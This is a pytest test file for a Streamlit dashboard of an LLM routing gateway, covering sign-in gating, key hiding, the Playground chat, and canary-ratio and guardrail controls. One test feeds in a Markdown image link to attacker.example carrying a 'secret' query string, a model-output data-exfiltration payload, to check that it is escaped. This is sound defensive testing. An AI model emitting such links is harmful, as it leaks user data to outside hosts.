"""AppTest tests of the entry, Overview, Playground and Canary pages: widget -> database effect,
validation messages, and never an exception element."""

from __future__ import annotations

import json
import re
import tomllib

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from db.canary import audit_log, get_guardrail, get_state, set_ratio
from db.faults import get_faults
from tests.configs import two_providers
from tests.support import paths

REPO = paths.REPO
# The entry is not beside pages/ (see ui/entry.py), so page paths for at.switch_page(),
# which are relative to the entry, start with "../pages/".
ENTRY = str(REPO / "ui" / "entry.py")
REAL_PRIMARY = two_providers(primary="real", fallback="real")


def _clear_caches() -> None:
    st.cache_data.clear()
    st.cache_resource.clear()
    from app.dashboard import demo_traffic
    from db.engine import dispose_all

    for key in list(demo_traffic._jobs):
        job = demo_traffic._jobs[key]
        job.stop()
        job.wait(30)
        demo_traffic.forget_job(key)
    dispose_all()


@pytest.fixture
def env(tmp_path, monkeypatch, sqlite_url):
    """A temporary database and config with an instant simulator; caches cleared around the test."""
    yield from _env(tmp_path, monkeypatch, sqlite_url)


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def any_env(request, tmp_path, monkeypatch):
    """Like ``env``, once on SQLite and once on PostgreSQL (the dashboard is the same on both)."""
    url = request.getfixturevalue("sqlite_url" if request.param == "sqlite" else "pg_url")
    yield from _env(tmp_path, monkeypatch, url)


def _env(tmp_path, monkeypatch, url):
    cfg = tmp_path / "gateway.toml"
    cfg.write_text((REPO / "gateway.toml").read_text() + "\n[simulator]\nlatency_scale = 0\nseed = 3\n")
    monkeypatch.setenv("GATEWAY_CONFIG", str(cfg))
    monkeypatch.setenv("DATABASE_URL", url)
    for var in ("DASHBOARD_PASSWORD", "HOLYSHEEP_API_KEY", "OPENAI_API_KEY"):
        monkeypatch.delenv(var, raising=False)
    _clear_caches()
    yield type("Env", (), {"url": url, "config": cfg, "tmp": tmp_path})
    _clear_caches()


def engine():
    from ui import resources

    return resources.engine()


def open_app(page: str | None = None) -> AppTest:
    at = AppTest.from_file(ENTRY, default_timeout=30).run()
    assert not at.exception
    if page:
        at.switch_page(page).run()
        assert not at.exception
    return at


def shown(markdown: str) -> str:
    """Text as the browser shows it: untrusted text is backslash-escaped Markdown (``inert``)."""
    return re.sub(r"\\([^A-Za-z0-9\s])", r"\1", markdown).replace("\u2060", "")


def texts(at: AppTest) -> str:
    """Every piece of text the app rendered (for 'never shown' checks)."""
    parts = [
        shown(str(getattr(el, "value", "")))
        for kind in ("markdown", "caption", "error", "info", "warning", "success", "title", "subheader", "metric")
        for el in getattr(at, kind)
    ]
    parts += [el.label for el in at.metric]
    parts += [df.value.to_string() for df in at.dataframe]
    parts += [str(w.value) for w in at.text_input]
    return "\n".join(parts)


def ratio_field(at: AppTest):
    """The Canary page's ratio field, by its label: its key changes each time the page puts a value
    in it."""
    matches = [w for w in at.number_input if w.label == "Canary ratio (%)"]
    assert len(matches) == 1, f"ratio fields: {[w.key for w in matches]}"
    return matches[0]


def ratio_slider(at: AppTest):
    matches = [w for w in at.slider if w.label == "Canary ratio slider"]
    assert len(matches) == 1, f"ratio sliders: {[w.key for w in matches]}"
    return matches[0]


def button(at: AppTest, label: str):
    matches = [b for b in at.button if b.label == label]
    assert matches, f"no button {label!r}; have {[b.label for b in at.button]}"
    return matches[0]


# -- entry, config, security ------------------------------------------------------------------------


def test_every_page_renders_without_exception(env):
    at = open_app()
    assert at.title[0].value == "Overview"
    for page, title in [
        ("../pages/playground.py", "Playground"),
        ("../pages/canary.py", "Canary control"),
        ("../pages/monitor.py", None),
        ("../pages/kv_calculator.py", None),
        ("../pages/overview.py", "Overview"),
    ]:
        at.switch_page(page).run()
        assert not at.exception, page
        if title:
            assert at.title[0].value == title
    assert at.sidebar.metric[0].label == "Canary ratio" and at.sidebar.metric[0].value == "10 %"


def test_streamlit_config_is_safe_by_default():
    cfg = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text())
    assert cfg["server"]["address"] == "127.0.0.1"
    assert cfg["client"]["showErrorDetails"] == "none"
    assert cfg["browser"]["gatherUsageStats"] is False


def test_config_error_is_a_message_not_a_traceback(env, monkeypatch):
    monkeypatch.setenv("GATEWAY_CONFIG", str(env.tmp / "missing.toml"))
    at = AppTest.from_file(ENTRY, default_timeout=30).run()
    assert not at.exception
    assert "configuration file not found" in shown(at.error[0].value)


@pytest.mark.parametrize("via", ["env", "secrets"])
def test_password_gate_on_every_page_and_actor_recorded(env, monkeypatch, via):
    at = AppTest.from_file(ENTRY, default_timeout=30)
    if via == "env":
        monkeypatch.setenv("DASHBOARD_PASSWORD", "s3cret")
    else:
        at.secrets["DASHBOARD_PASSWORD"] = "s3cret"
    at.run()
    assert not at.exception
    assert at.title[0].value == "Sign in" and not at.metric  # nothing of the dashboard is shown
    assert [w.label for w in at.text_input] == ["Password"]  # no typed name: the actor is not typed
    at.text_input[0].set_value("wrong")
    at.button[0].click().run()
    assert "Wrong password" in shown(at.error[0].value) and at.title[0].value == "Sign in"
    at.text_input[0].set_value("s3cret")
    at.button[0].click().run()
    assert not at.exception and at.title[0].value == "Overview"
    at.switch_page("../pages/canary.py").run()
    ratio_field(at).set_value(30.0)
    at.text_input(key="canary_reason").set_value("gated change")
    button(at, "Apply").click().run()
    assert get_state(engine()).updated_by == "dashboard"
    assert "s3cret" not in texts(at)


def test_first_run_of_a_page_url_is_gated(tmp_path, monkeypatch):
    """Every page, however it is reached (here: switched to before signing in), is drawn by the
    entry after its password gate, never run on its own."""
    cfg = tmp_path / "gateway.toml"
    cfg.write_text((REPO / "gateway.toml").read_text())
    monkeypatch.setenv("GATEWAY_CONFIG", str(cfg))
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'gateway.db'}")
    monkeypatch.setenv("DASHBOARD_PASSWORD", "s3cret")
    _clear_caches()
    try:
        at = AppTest.from_file(ENTRY, default_timeout=30).run()
        for page in ("../pages/canary.py", "../pages/playground.py", "../pages/monitor.py", "../pages/overview.py"):
            at.switch_page(page).run()
            assert not at.exception
            assert (
                at.title[0].value == "Sign in"
                and not at.metric
                and not [w for w in at.text_input if w.key == "canary_pct"]
            )
    finally:
        _clear_caches()


@pytest.mark.parametrize(
    "given",
    ["", "s3cre", "s3cret ", "S3CRET", "s3cret\n", "s3crét", "s3cret-and-more"],
)
def test_wrong_passwords_are_refused(given):
    from ui import auth

    assert auth.check_password(given, "s3cret") is False


def test_right_password_is_accepted_through_a_constant_time_compare(monkeypatch):
    from ui import auth

    calls = []
    real = auth.hmac.compare_digest

    def spy(a, b):
        calls.append((type(a), type(b)))
        return real(a, b)

    monkeypatch.setattr(auth.hmac, "compare_digest", spy)
    assert auth.check_password("s3crét", "s3crét") is True
    assert auth.check_password("s3cret", "s3crét") is False
    # Both comparisons went through hmac.compare_digest, on bytes (str would refuse non-ASCII).
    assert calls == [(bytes, bytes), (bytes, bytes)]


def test_keys_are_never_displayed(env, monkeypatch):
    env.config.write_text(REAL_PRIMARY + "\n[simulator]\nlatency_scale = 0\n")
    monkeypatch.setenv("HOLYSHEEP_API_KEY", "sk-live-abcdef123456")
    at = open_app()
    shown = texts(at)
    assert "sk-live-abcdef123456" not in shown
    rows = at.dataframe[0].value
    assert list(rows["key"]) == ["set", "missing"]
    assert list(rows["provider"]) == ["holysheep", "direct"]
    assert "key missing" in rows["state"].iloc[1]


# -- overview -----------------------------------------------------------------------------------------


def test_overview_shows_canary_kpis_and_provider_states(env):
    set_ratio(engine(), 0.3, expected_version=None, actor="bob", reason="widen")
    at = open_app()
    metrics = {m.label: m.value for m in at.main.metric}
    assert metrics["Canary ratio"] == "30 %"
    assert {"Requests, last 15 min", "p50 latency", "p95 latency", "Cost today (UTC)"} <= set(metrics)
    assert {"Attempt error rate, last 1 min", "Fallback rate, last 15 min"} <= set(metrics)
    assert metrics["Requests, last 15 min"] == "0"
    assert any("bob" in m.value and "widen" in m.value for m in at.markdown)
    states = list(at.dataframe[0].value["state"])
    assert all("simulated" in s for s in states)
    assert any(c.value.startswith("Routing re-reads the ratio every 0.5 s") for c in at.sidebar.caption)


def test_overview_shows_a_breaker_another_live_process_holds_open(env):
    import time

    from db.breakers import LIVE_S, ReportedBreaker, beat

    now = time.time()
    beat(
        engine(),
        process="live",
        breakers={"holysheep": ReportedBreaker("open", now - 5)},
        now=now,
        pid=1,
        host="h",
        source="api",
    )
    # A process that stopped reporting with direct's breaker open no longer counts.
    old = now - LIVE_S - 1
    beat(
        engine(),
        process="gone",
        breakers={"direct": ReportedBreaker("open", old)},
        now=old,
        pid=2,
        host="h",
        source="api",
    )
    at = open_app()
    table = at.dataframe[0].value
    row = table[table["provider"] == "holysheep"].iloc[0]
    assert row["state"] == "breaker open" and row["breaker"].startswith("open since")
    assert table[table["provider"] == "direct"].iloc[0]["breaker"] == "closed"


def test_overview_shows_the_request_log_counters(env):
    from ui import resources

    client = resources.client()
    client.chat([{"role": "user", "content": "hi"}], model="auto")
    client.telemetry.flush()
    at = open_app()
    metrics = {m.label: m.value for m in at.main.metric}
    assert {"Log queue", "Spilled", "Replayed", "Rejected"} <= set(metrics)
    assert metrics["Spilled"] == f"{client.telemetry.stats().spilled:,}"
    assert not any("not taking request-log writes" in w.value for w in at.warning)


# -- playground ---------------------------------------------------------------------------------------


def _rows(where: str = "1=1") -> list:
    from sqlalchemy import text

    from ui import resources

    resources.client().flush()
    with engine().connect() as conn:
        return list(
            conn.execute(
                text(f"select request_id, provider, side, source, session_id, final from request_log where {where}")
            )
        )


def test_playground_streams_an_answer_with_its_metadata_and_log_row(any_env):
    at = open_app("../pages/playground.py")
    at.chat_input[0].set_value("Write a python function that reverses a list").run()
    assert not at.exception
    assert at.chat_message[0].markdown[0].value == "Write a python function that reverses a list"
    answer = at.chat_message[1]
    assert "simulated" in answer.markdown[0].value
    captions = shown(" ".join(c.value for c in answer.caption))
    assert "intent coding" in captions and "canary side" in captions and "TTFT" in captions
    assert "prompt /" in captions and "cached /" in captions and "cost $" in captions
    rows = _rows("source = 'playground'")
    assert len(rows) == 1 and rows[0].session_id == at.session_state["_playground_state"].session_id
    # The answer links to its request drill-down.
    links = [el.proto for el in answer.get("link_button")]
    assert [(link.label, link.url) for link in links] == [
        ("Open in request drill-down", f"/request?id={rows[0].request_id}")
    ]
    # The conversation goes on in the same session (sticky routing), then New session starts afresh.
    at.chat_input[0].set_value("and now in Korean").run()
    assert len(at.chat_message) == 4 and not at.exception
    sides = {r.side for r in _rows("source = 'playground'")}
    assert len(sides) == 1
    old = at.session_state["_playground_state"].session_id
    button(at, "New session").click().run()
    assert at.session_state["_playground_state"].session_id != old and not at.chat_message


def test_a_coding_prompt_at_zero_percent_is_neither_sent_to_the_primary_nor_answered_dearer(env):
    """model=auto with intent rules that choose deepseek for coding (a configuration that says so:
    the shipped rules choose models both sides serve), which only the primary serves; the
    fallback's default (gpt-4.1) costs 14x more. At a canary ratio of 0 % the primary gets no
    traffic, so the substitution policy decides: no substitute within its price factor, so the
    request is refused with a message naming the policy and the ratio, and logged once as
    refused_by_policy (never answered by gpt-4.1, never sent to the primary)."""
    from sqlalchemy import text

    from tests.configs import one_sided_toml
    from ui import resources

    env.config.write_text(one_sided_toml() + "\n[simulator]\nlatency_scale = 0\nseed = 3\n")
    set_ratio(engine(), 0.0, expected_version=None, actor="test", reason="every session on the fallback side")
    at = open_app("../pages/playground.py")
    at.chat_input[0].set_value("Write a python function that sorts a list of numbers").run()
    assert not at.exception
    answer = at.chat_message[1]
    said = shown(" ".join(str(el.value) for kind in ("markdown", "error", "caption") for el in getattr(answer, kind)))
    assert "substitution policy" in said and "canary ratio of 0%" in said
    resources.client().flush()
    with engine().connect() as conn:
        rows = conn.execute(
            text("select provider, status, error_class, side, final from request_log where source = 'playground'")
        ).all()
    assert [tuple(r) for r in rows] == [("gateway", "error", "refused_by_policy", "fallback", 1)]


def test_playground_never_loads_images_from_model_output(env, monkeypatch):
    import app.simulator.server as sim_server
    from app.simulator.answers import Answer

    evil = "Sure. ![pixel](https://attacker.example/p.png?q=secret) [docs](https://example.com)"
    monkeypatch.setattr(sim_server, "compose_answer", lambda *args, **kwargs: Answer(evil, "stop"))
    at = open_app("../pages/playground.py")
    at.chat_input[0].set_value("hi").run()
    assert not at.exception
    shown = at.chat_message[1].markdown[0].value
    assert "![" not in shown and "!\\[pixel]" in shown and "[docs](https://example.com)" in shown
    at.run()  # the stored turn is redrawn from session state: still escaped
    assert "![" not in at.chat_message[1].markdown[0].value


def max_tokens_field(at: AppTest):
    return next(w for w in at.sidebar.text_input if w.label == "Max tokens")


@pytest.mark.parametrize("value", ["0", "-1", "32769", "1.5", "abc", "", "1e3"])
def test_playground_invalid_max_tokens_is_refused_and_nothing_is_sent(env, value):
    at = open_app("../pages/playground.py")
    max_tokens_field(at).set_value(value).run()
    assert "Max tokens must be a whole number from 1 to 32768" in shown(at.sidebar.error[0].value)
    at.chat_input[0].set_value("hello").run()
    assert not at.exception and not at.chat_message
    assert any("Not sent" in e.value for e in at.main.error)
    assert _rows("source = 'playground'") == []
    max_tokens_field(at).set_value("64").run()
    assert not at.sidebar.error
    at.chat_input[0].set_value("hello").run()
    assert len(at.chat_message) == 2 and len(_rows("source = 'playground'")) == 1


def test_playground_long_prompt_is_shown_cut_with_the_whole_text_behind_show_all(env):
    from app.dashboard.answer import PROMPT_PREVIEW_CHARS

    prompt = "word " * 7_999 + "last!"  # 40,000 characters
    at = open_app("../pages/playground.py")
    at.chat_input[0].set_value(prompt).run()
    assert not at.exception
    user = at.chat_message[0]
    assert len(user.markdown[0].value) <= PROMPT_PREVIEW_CHARS + 1
    assert user.expander[0].label.startswith("Show all (40,000 characters")
    assert user.expander[0].text[0].value == prompt
    at.run()  # redrawn from the session: still cut
    assert len(at.chat_message[0].markdown[0].value) <= PROMPT_PREVIEW_CHARS + 1


def test_playground_failure_texts_are_inert(env, monkeypatch):
    """An upstream error message holding Markdown image syntax is shown as text, not loaded."""
    import app.catalog

    real_get = app.catalog.get
    evil = "gpt-4.1 ![x](http://127.0.0.1:9/pixel) :red[boom]"
    monkeypatch.setattr(
        app.catalog,
        "get",
        lambda m: (_ for _ in ()).throw(app.catalog.UnknownModelError(evil)) if m == "gpt-4.1" else real_get(m),
    )
    at = open_app("../pages/playground.py")
    at.selectbox[0].set_value("gpt-4.1")
    at.chat_input[0].set_value("hello").run()
    err = at.chat_message[1].error[0].value
    assert "![" not in err and ":red[" not in err and "\\!\\[x\\]" in err


def test_playground_settings_reach_the_router(env):
    at = open_app("../pages/playground.py")
    at.selectbox[0].set_value("gpt-4.1")
    at.text_area[0].set_value("Answer in one line.")
    at.slider[0].set_value(0.2)
    max_tokens_field(at).set_value("64")
    at.chat_input[0].set_value("hello").run()
    assert not at.exception
    captions = shown(" ".join(c.value for c in at.chat_message[1].caption))
    assert "gpt-4.1" in captions and "intent explicit" in captions


def test_playground_compare_mode_runs_both_routes(env):
    at = open_app("../pages/playground.py")
    at.toggle[0].set_value(True)
    at.chat_input[0].set_value("Summarise canary rollouts").run()
    assert not at.exception
    answer = at.chat_message[1]
    labels = [shown(m.value) for m in answer.markdown if m.value.startswith("**")]
    assert labels == ["**Primary: holysheep**", "**Fallback: direct**"]
    rows = _rows("source = 'playground'")
    assert sorted((r.provider, r.side) for r in rows) == [("direct", "fallback"), ("holysheep", "primary")]


def test_playground_missing_key_is_a_clear_message_with_the_fix(env):
    env.config.write_text(REAL_PRIMARY + "\n[simulator]\nlatency_scale = 0\n")
    at = open_app("../pages/playground.py")
    set_ratio(engine(), 1.0, expected_version=None, actor="t", reason="primary first, then the fallback")
    from ui import resources

    resources.client().refresh()  # the background refresher would apply it within ratio_refresh_s
    at.chat_input[0].set_value("hello").run()
    assert not at.exception
    err = shown(at.chat_message[1].error[0].value)
    assert "All routes failed" in err and "set HOLYSHEEP_API_KEY" in err and "OPENAI_API_KEY" in err
    assert "Traceback" not in err


def test_playground_unknown_model_is_a_clear_message(env, monkeypatch):
    import app.catalog

    at = open_app("../pages/playground.py")
    # The selector only offers catalog models; a model removed from the catalog mid-session is the
    # way an unknown model reaches the router from the page.
    at.selectbox[0].set_value("gpt-4.1").run()
    real_get = app.catalog.get
    monkeypatch.setattr(
        app.catalog,
        "get",
        lambda m: (_ for _ in ()).throw(app.catalog.UnknownModelError(m)) if m == "gpt-4.1" else real_get(m),
    )
    at.chat_input[0].set_value("hello").run()
    assert not at.exception
    err = shown(at.chat_message[1].error[0].value)
    assert "Unknown model" in err and "Fix:" in err


# -- canary -------------------------------------------------------------------------------------------


def test_canary_apply_writes_audits_and_keeps_slider_in_step(any_env):
    at = open_app("../pages/canary.py")
    assert ratio_field(at).label == "Canary ratio (%)"
    assert ratio_field(at).value == 10.0 and ratio_slider(at).value == 10.0
    ratio_field(at).set_value(25.0).run()
    assert ratio_slider(at).value == 25.0
    ratio_slider(at).set_value(37.5).run()
    assert ratio_field(at).value == 37.5
    at.text_input(key="canary_reason").set_value("error rate flat for an hour")
    button(at, "Apply").click().run()
    assert not at.exception
    state = get_state(engine())
    assert (state.ratio, state.updated_by, state.reason) == (0.375, "local", "error rate flat for an hour")
    assert "37.5 %" in shown(at.success[0].value)
    entry = audit_log(engine())[0]
    assert (entry.old_ratio, entry.new_ratio, entry.actor) == (0.1, 0.375, "local")
    table = at.dataframe[0].value
    assert table.iloc[0]["new %"] == 37.5 and table.iloc[0]["actor"] == "local"
    assert at.text_input(key="canary_reason").value == ""

    charts = [json.loads(c.proto.spec) for c in at.get("plotly_chart")]
    assert len(charts) == 2 and charts[0]["data"][0]["y"][-1] == 37.5


@pytest.mark.parametrize(
    "value, reason, message",
    [
        (None, "why", "must be a number between 0 and 100"),
        (150.0, "why", "must be between 0 and 100"),
        (-5.0, "why", "must be between 0 and 100"),
        # Streamlit hands a non-finite number back as an empty field (None): refused, never 0 %.
        (float("nan"), "why", "must be a number between 0 and 100"),
        (float("inf"), "why", "must be a number between 0 and 100"),
        (1e308, "why", "must be between 0 and 100"),
        (10.0, "why", "No change: the canary ratio is already 10 %"),
        (20.0, "", "reason is required"),
    ],
)
def test_canary_bad_input_is_refused_and_nothing_written(env, value, reason, message):
    at = open_app("../pages/canary.py")
    before = get_state(engine())
    ratio_field(at).set_value(value)
    at.text_input(key="canary_reason").set_value(reason)
    button(at, "Apply").click().run()
    assert not at.exception
    assert message in shown(at.error[0].value) and "Nothing was written" in shown(at.error[0].value)
    assert not at.success
    assert get_state(engine()) == before and audit_log(engine()) == []
    # The message sits in the form column, right under the field it is about, not in the page notices.
    column = at.columns[2]  # m1, m2, then the form column
    assert any(message in shown(e.value) for e in column.error)
    assert (ratio_field(at) if reason else at.text_input(key="canary_reason")) is not None


def _add_account(name: str, role: str, password: str = "correct horse 1") -> None:
    from argon2 import PasswordHasher

    from app.accounts import Accounts

    Accounts(engine(), hasher=PasswordHasher(time_cost=1, memory_cost=8, parallelism=1)).add(
        name, role, password, actor="test"
    )


def _sign_in(at: AppTest, name: str, password: str = "correct horse 1") -> AppTest:
    at.text_input(key="sign_in_name").set_value(name)
    at.text_input(key="sign_in_password").set_value(password)
    return button(at, "Sign in").click().run()


def test_canary_actor_is_the_signed_in_account(env):
    _add_account("carol", "operator")
    at = AppTest.from_file(ENTRY, default_timeout=30).run()
    assert at.title[0].value == "Sign in" and not at.metric
    _sign_in(at, "carol", "wrong password")
    assert "wrong name or password" in shown(at.error[0].value).lower()
    _sign_in(at, "carol")
    assert not at.exception and at.title[0].value == "Overview"
    assert "carol" in " ".join(c.value for c in at.sidebar.caption) and "operator" in " ".join(
        c.value for c in at.sidebar.caption
    )
    assert not [w for w in at.sidebar.text_input if w.label == "Your name"]  # nothing to type a name into
    at.switch_page("../pages/canary.py").run()
    ratio_field(at).set_value(5.0)
    at.text_input(key="canary_reason").set_value("narrow")
    button(at, "Apply").click().run()
    assert get_state(engine()).updated_by == "carol"


def test_a_viewer_sees_the_canary_page_with_every_control_disabled(env):
    _add_account("vera", "viewer")
    at = _sign_in(AppTest.from_file(ENTRY, default_timeout=30).run(), "vera")
    at.switch_page("../pages/canary.py").run()
    assert not at.exception
    assert any("viewer role" in shown(i.value) for i in at.info)
    assert ratio_field(at).disabled and at.text_input(key="canary_reason").disabled
    for label in ("Apply", "Roll back to 0 %", "Promote to 100 %", "Save guardrail", "Save faults", "Clear"):
        assert button(at, label).disabled, label
    assert all(w.disabled for w in at.text_input if w.key not in ("sign_in_name", "sign_in_password"))


def test_sign_in_delay_grows_and_is_shown(env):
    _add_account("dave", "operator")
    at = AppTest.from_file(ENTRY, default_timeout=30).run()
    messages = [_sign_in(at, "dave", f"wrong {i}").error[0].value for i in range(4)]
    assert messages[:2] == ["Wrong name or password."] * 2
    assert "next try in 1 s" in messages[2]
    assert "try again in" in messages[3]  # refused without looking at the password
    _sign_in(at, "dave")  # even the right password waits
    assert at.title[0].value == "Sign in" and "try again in" in shown(at.error[0].value)


def test_canary_stale_apply_is_refused_saying_who_changed_it(env):
    at = open_app("../pages/canary.py")
    set_ratio(engine(), 0.4, expected_version=None, actor="bob", reason="other tab")
    ratio_field(at).set_value(90.0)
    at.text_input(key="canary_reason").set_value("mine")
    button(at, "Apply").click().run()
    assert not at.exception
    err = shown(at.error[0].value)
    assert "Refused" in err and "bob" in err and "40 %" in err
    assert get_state(engine()).ratio == 0.4 and len(audit_log(engine())) == 1
    # The page re-locked on the current version and shows its value; a second Apply goes through.
    assert ratio_field(at).value == 40.0
    ratio_field(at).set_value(90.0)
    at.text_input(key="canary_reason").set_value("mine, after checking")
    button(at, "Apply").click().run()
    assert get_state(engine()).ratio == 0.9


def test_canary_quick_actions_need_confirmation(env):
    at = open_app("../pages/canary.py")
    button(at, "Roll back to 0 %").click().run()
    assert get_state(engine()).ratio == 0.1  # nothing yet
    assert "Confirm?" in shown(at.warning[0].value)
    button(at, "Cancel").click().run()
    assert not [b for b in at.button if b.label.startswith("Confirm")]
    button(at, "Promote to 100 %").click().run()
    button(at, "Confirm: Promote to 100 %").click().run()
    assert not at.exception
    state = get_state(engine())
    assert state.ratio == 1.0 and state.reason == "Promote to 100 % from the dashboard"
    button(at, "Roll back to 0 %").click().run()
    at.text_input(key="quick_reason_rollback").set_value("errors spiking")
    button(at, "Confirm: Roll back to 0 %").click().run()
    state = get_state(engine())
    assert (state.ratio, state.reason) == (0.0, "errors spiking")
    assert [e.new_ratio for e in audit_log(engine())] == [0.0, 1.0]


def _client_without_background_guardrail():
    """A routing client on the page's database and config, without a guardrail timer of its own; the
    dashboard's own client (built by the page's writes) has its timer stopped too, so only the
    explicit check in the test can roll the canary back."""
    from app.config import load_settings
    from app.gateway import build_gateway
    from ui import resources

    dashboard_timer = resources.client().gateway.guardrail
    if dashboard_timer is not None:
        dashboard_timer.stop()
    # Its circuit breaker is off too: six failing requests would open it and skip the primary,
    # which is the breaker's job (tested in test_routing_hostile), not this rehearsal's.
    settings = load_settings()
    settings = settings.model_copy(update={"breaker": settings.breaker.model_copy(update={"enabled": False})})
    return build_gateway(settings, engine=engine(), guardrail=False).client


def test_guardrail_and_fault_injection_rehearse_an_outage(env):
    from app.guardrail import check_guardrail

    # The circuit breaker would stop sending to the failing primary after its minimum attempts; this
    # test is about the guardrail, which must see every primary attempt fail, so the breaker is off.
    env.config.write_text(env.config.read_text() + "\n[breaker]\nenabled = false\n")
    at = open_app("../pages/canary.py")
    form = at.get("form")
    at.toggle[0].set_value(True)
    threshold, window, minimum = [
        n
        for n in at.text_input
        if n.label in ("Error-rate threshold (%)", "Window (minutes)", "Minimum attempts in window")
    ]
    threshold.set_value("50")
    window.set_value("5")
    minimum.set_value("5")
    next(b for b in at.button if b.label == "Save guardrail").click().run()
    assert not at.exception and form is not None
    g = get_guardrail(engine())
    assert (g.enabled, g.error_rate_threshold, g.window_minutes, g.min_requests) == (True, 0.5, 5, 5)

    at.text_input(key="err_holysheep").set_value("100")
    next(b for b in at.button if b.label == "Save faults").click().run()
    assert not at.exception
    assert get_faults(engine(), "holysheep").error_rate == 1.0

    set_ratio(engine(), 1.0, expected_version=None, actor="alice", reason="all in")
    # The traffic comes from a client whose own background guardrail check is off, so the one check
    # below decides the rollback: every request meets the failing primary first, deterministically.
    client = _client_without_background_guardrail()
    try:
        for i in range(6):
            r = client.chat([{"role": "user", "content": f"hi {i}"}], session_id=f"s{i}")
            assert (r.side, r.fallback_used, r.provider) == ("primary", True, "direct")
            assert r.attempt_log[0].provider == "holysheep" and r.attempt_log[0].error_class == "server_error"
        client.flush()
        assert get_state(engine()).ratio == 1.0  # nothing has rolled back yet
        tripped = check_guardrail(engine(), client.settings)
    finally:
        client.close()
    assert tripped == 1.0  # every primary attempt in the window failed
    state = get_state(engine())
    assert (state.ratio, state.updated_by) == (0.0, "guardrail")

    button(at, "Refresh").click().run()
    audit = next(d.value for d in at.dataframe if "actor" in d.value.columns)  # after the preview's table
    assert audit.iloc[0]["actor"] == "guardrail"
    next(b for b in at.button if b.label == "Clear").click().run()
    assert get_faults(engine(), "holysheep") is None
    assert at.text_input(key="err_holysheep").value == "0"


# -- issue 17: guardrail on by default and shown first; sign-out revokes ------------------------------


def test_the_guardrail_is_on_by_default_and_its_state_tops_the_canary_page(env):
    at = open_app("../pages/canary.py")
    first = at.info[0] if at.info else None
    assert first is not None
    text = shown(first.value)
    assert text.startswith("Guardrail on") and "holysheep" in text
    assert "20 %" in text and "5 min" in text and "at least 20 attempts" in text and "no attempts" in text
    # Turned off (and saved), the top of the page says so in a warning.
    at.toggle(key="guard_enabled").set_value(False)
    button(at, "Save guardrail").click().run()
    assert not at.exception and get_guardrail(engine()).enabled is False
    assert shown(at.warning[0].value).startswith("Guardrail off: nothing rolls the canary back")


def test_sign_out_ends_every_session_of_the_account(env):
    from app.accounts import Accounts

    _add_account("olga", "operator")
    at = _sign_in(AppTest.from_file(ENTRY, default_timeout=30).run(), "olga")
    other = _sign_in(AppTest.from_file(ENTRY, default_timeout=30).run(), "olga")  # a second tab
    assert at.title[0].value == "Overview" and other.title[0].value == "Overview"
    epoch = Accounts(engine()).get("olga").session_epoch
    button(at, "Sign out").click().run()
    assert at.title[0].value == "Sign in"
    assert Accounts(engine()).get("olga").session_epoch == epoch + 1
    other.run()  # the other tab's next run: signed out too
    assert other.title[0].value == "Sign in"


def test_canary_previews_a_typed_ratio_from_the_last_hour_before_apply(env):
    import time as _time

    from core.records import AttemptRecord
    from db.requests import insert_batch

    now = _time.time()
    rows = [
        AttemptRecord(
            f"p{i}",
            1,
            now - 60 + i,
            "holysheep",
            "deepseek-chat-v3.2",
            "deepseek-chat-v3.2",
            "coding",
            "fallback",
            "ok",
            5.0,
        )
        for i in range(6)
    ]
    insert_batch(engine(), rows)
    at = open_app("../pages/canary.py")
    assert not [e for e in at.expander if "Before you apply" in e.label]  # nothing typed yet
    ratio_field(at).set_value(0.0).run()
    assert not at.exception
    (box,) = [e for e in at.expander if "Before you apply" in e.label]
    assert "what 0 % would do" in box.label
    head = shown(box.caption[0].value)
    assert "6 requests" in head and "refused 0.0 % now -> 100.0 %" in head
    table = box.dataframe[0].value
    assert table.iloc[0]["model"] == "deepseek-chat-v3.2" and table.iloc[0]["refused after"] == 6
    assert get_state(engine()).ratio == 0.1 and audit_log(engine()) == []  # a preview writes nothing
    # The real exposure sits next to the ratio: holysheep got every request (moved for its model).
    assert any("Real exposure, last 15 min: holysheep got 100% of requests" in shown(m.value) for m in at.markdown)
